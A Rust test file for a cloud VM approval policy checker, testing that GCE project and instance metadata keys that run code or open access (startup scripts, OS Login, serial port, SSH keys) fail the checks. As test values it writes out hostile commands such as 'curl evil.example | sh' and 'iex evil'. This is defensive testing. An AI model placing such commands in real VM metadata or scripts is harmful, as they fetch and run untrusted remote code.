//! `instance.project_metadata` and the never-approvable instance keys, through `policy::evaluate` on the
//! fixture VM: project keys that run code or open access fail the project check (and only it), project
//! SSH keys pass only while the instance blocks them, a missing project fails closed, and an approval
//! (signed, or proposed from live evidence) never allows an instance key that runs code.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::*;
use tokendist_core::approval::{Approval, sign};
use tokendist_core::checks::*;
use tokendist_core::evidence::{Evidence, FetchError, FetchErrorKind};
use tokendist_core::policy::{evaluate, evaluate_for_review};
use tokendist_core::verdict::{Outcome, Verdict};

fn with_project_key(key: &str, value: &str) -> Evidence {
    let mut evidence = good_evidence();
    evidence
        .project
        .as_mut()
        .unwrap()
        .metadata
        .insert(key.to_owned(), value.to_owned());
    evidence
}

fn with_instance_key(evidence: &mut Evidence, key: &str, value: &str) {
    evidence
        .instance
        .as_mut()
        .unwrap()
        .metadata
        .insert(key.to_owned(), value.to_owned());
}

fn failure(verdict: &Verdict, name: &str) -> String {
    match &verdict.get(name).unwrap().outcome {
        Outcome::Fail(reason) => reason.clone(),
        other => panic!("{name} did not fail: {other:?}"),
    }
}

#[test]
fn the_good_project_passes() {
    let verdict = evaluate(&good_approval(), &good_evidence(), &settings());
    assert!(
        verdict.get(INSTANCE_PROJECT_METADATA).unwrap().is_pass(),
        "{verdict:#?}"
    );
}

#[test]
fn project_keys_that_run_code_or_open_access_fail_only_the_project_check() {
    let cases = [
        ("startup-script", "curl evil.example | sh"),
        ("startup-script-url", "gs://bob/evil.sh"),
        ("shutdown-script", "curl evil.example | sh"),
        ("windows-startup-script-ps1", "iex evil"),
        ("sysprep-specialize-script-url", "https://evil.example/x"),
        ("Startup-Script", "curl evil.example | sh"),
        ("enable-oslogin", "TRUE"),
        ("enable-oslogin", "True "),
        ("enable-oslogin", "on"),
        ("enable-oslogin", ""),
        ("enable-oslogin-2fa", "TRUE"),
        ("enable-osconfig", "true"),
        ("osconfig-disabled-features", "tasks"),
        ("enable-guest-attributes", "TRUE"),
        ("serial-port-enable", "1"),
        ("serial-port-logging-enable", "TRUE"),
        ("enable-windows-ssh", "TRUE"),
        ("gce-container-declaration", "spec:\n  containers: []"),
        ("user-data", "#cloud-config\nruncmd: [id]"),
        ("user-data-encoding", "base64"),
        ("windows-keys", "{}"),
        ("bobs-custom-key", "anything"),
    ];
    for (key, value) in cases {
        let verdict = evaluate(&good_approval(), &with_project_key(key, value), &settings());
        assert_eq!(
            verdict.failed_names(),
            [INSTANCE_PROJECT_METADATA],
            "project {key}={value:?}: {verdict:#?}"
        );
        let reason = failure(&verdict, INSTANCE_PROJECT_METADATA);
        assert!(
            reason.contains(&format!("{key:?}")),
            "{key}: the reason names the key: {reason}"
        );
    }
}

#[test]
fn project_oslogin_on_fails_with_a_reason_alice_can_read() {
    let verdict = evaluate(
        &good_approval(),
        &with_project_key("enable-oslogin", "TRUE"),
        &settings(),
    );
    let reason = failure(&verdict, INSTANCE_PROJECT_METADATA);
    assert!(reason.contains("OS Login"), "{reason}");
    assert!(reason.contains("tc-4f4f5a70"), "{reason}");
}

#[test]
fn project_ssh_keys_pass_only_while_the_instance_blocks_them() {
    let keys = "bob:ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBob bob@laptop";
    // The fixture VM blocks project keys.
    for key in ["ssh-keys", "sshKeys"] {
        let verdict = evaluate(&good_approval(), &with_project_key(key, keys), &settings());
        assert!(verdict.allowed(), "{key}: {verdict:#?}");
    }

    for unblocked in ["FALSE", "yes", "1", " TRUE"] {
        let mut evidence = with_project_key("ssh-keys", keys);
        with_instance_key(&mut evidence, "block-project-ssh-keys", unblocked);
        let verdict = evaluate(&good_approval(), &evidence, &settings());
        assert_eq!(
            verdict.failed_names(),
            [INSTANCE_METADATA, INSTANCE_PROJECT_METADATA],
            "block-project-ssh-keys={unblocked:?}"
        );
    }

    // Another spelling on the instance may override the block for the guest agent.
    let mut evidence = with_project_key("ssh-keys", keys);
    with_instance_key(&mut evidence, "Block-Project-SSH-Keys", "false");
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert_eq!(
        verdict.failed_names(),
        [INSTANCE_METADATA, INSTANCE_PROJECT_METADATA]
    );

    // Without the instance, project keys count as not blocked.
    let mut evidence = with_project_key("ssh-keys", keys);
    evidence.instance = Err(FetchError {
        api: "compute.instances.get".into(),
        kind: FetchErrorKind::NotFound,
        message: "HTTP 404".into(),
    });
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert!(verdict.get(INSTANCE_PROJECT_METADATA).unwrap().is_fail());
}

#[test]
fn harmless_project_keys_and_clearly_off_switches_pass() {
    let mut evidence = good_evidence();
    for (key, value) in [
        ("google-compute-default-region", "us-central1"),
        ("google-monitoring-enabled", "true"),
        ("enable-oslogin", "false"),
        ("enable-osconfig", "FALSE"),
        ("serial-port-enable", "False"),
        ("enable-guest-attributes", "FALSE"),
        ("disable-legacy-endpoints", "TRUE"),
        ("block-project-ssh-keys", "FALSE"),
    ] {
        evidence
            .project
            .as_mut()
            .unwrap()
            .metadata
            .insert(key.to_owned(), value.to_owned());
    }
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert!(verdict.allowed(), "{verdict:#?}");
}

#[test]
fn an_unreadable_project_fails_the_check_with_the_fetch_error() {
    let mut evidence = good_evidence();
    evidence.project = Err(FetchError {
        api: "compute.projects.get".into(),
        kind: FetchErrorKind::PermissionDenied,
        message: "HTTP 403 forbidden".into(),
    });
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert_eq!(verdict.failed_names(), [INSTANCE_PROJECT_METADATA]);
    let reason = failure(&verdict, INSTANCE_PROJECT_METADATA);
    assert!(reason.contains("compute.projects.get"), "{reason}");
    assert!(reason.contains("403"), "{reason}");
}

#[test]
fn evidence_recorded_without_the_project_deserialises_and_fails_closed() {
    let mut json = serde_json::to_value(good_evidence()).unwrap();
    json.as_object_mut().unwrap().remove("project");
    let evidence: Evidence = serde_json::from_value(json).unwrap();
    let verdict = evaluate(&good_approval(), &evidence, &settings());
    assert_eq!(verdict.failed_names(), [INSTANCE_PROJECT_METADATA]);
}

/// Alice (or an older console) signed an approval that lists a key that runs code.
fn approval_allowing(key: &str) -> Approval {
    let mut approval = unsigned_good_approval();
    approval.allowed_metadata_keys.insert(key.to_owned());
    sign(&mut approval, &approver_key());
    approval
}

#[test]
fn a_signed_approval_listing_a_dangerous_instance_key_is_still_denied_by_instance_metadata() {
    for (key, value) in [
        ("startup-script", "curl evil.example | sh"),
        ("startup-script-url", "gs://bob/evil.sh"),
        ("user-data-encoding", "base64"),
        ("enable-osconfig", "TRUE"),
        ("enable-guest-attributes", "TRUE"),
        ("gce-container-declaration", "spec: {}"),
        ("sysprep-specialize-script-ps1", "iex evil"),
        ("ssh-keys", "bob:ssh-ed25519 AAAA"),
        ("Enable-OSLogin", "TRUE"),
    ] {
        let mut evidence = good_evidence();
        with_instance_key(&mut evidence, key, value);
        let verdict = evaluate(&approval_allowing(key), &evidence, &settings());
        assert_eq!(verdict.failed_names(), [INSTANCE_METADATA], "{key}");
        let reason = failure(&verdict, INSTANCE_METADATA);
        assert!(reason.contains("never approvable"), "{key}: {reason}");
    }
    // Settings cannot allow them either.
    let mut settings = settings();
    settings
        .always_allowed_metadata_keys
        .insert("startup-script".to_owned());
    let mut evidence = good_evidence();
    with_instance_key(&mut evidence, "startup-script", "id");
    let verdict = evaluate(&good_approval(), &evidence, &settings);
    assert_eq!(verdict.failed_names(), [INSTANCE_METADATA]);
}

#[test]
fn a_proposal_never_copies_a_dangerous_instance_key_but_keeps_off_switches_and_plain_keys() {
    let mut evidence = good_evidence();
    for (key, value) in [
        ("startup-script", "curl evil.example | sh"),
        ("user-data-encoding", "base64"),
        ("enable-osconfig", "TRUE"),
        ("serial-port-enable", "yes"),
        ("Startup-Script", "id"),
        ("enable-oslogin", "FALSE"),
        ("team", "blue"),
    ] {
        with_instance_key(&mut evidence, key, value);
    }
    let (proposal, verdict) = evaluate_for_review(&evidence, &settings(), "alice@example.com");
    let allowed: Vec<&str> = proposal
        .allowed_metadata_keys
        .iter()
        .map(String::as_str)
        .collect();
    assert!(allowed.contains(&"enable-oslogin"), "{allowed:?}");
    assert!(allowed.contains(&"team"), "{allowed:?}");
    for key in [
        "startup-script",
        "user-data-encoding",
        "enable-osconfig",
        "serial-port-enable",
        "Startup-Script",
    ] {
        assert!(!allowed.contains(&key), "{key} copied: {allowed:?}");
    }
    assert_eq!(verdict.failed_names(), [INSTANCE_METADATA]);
}
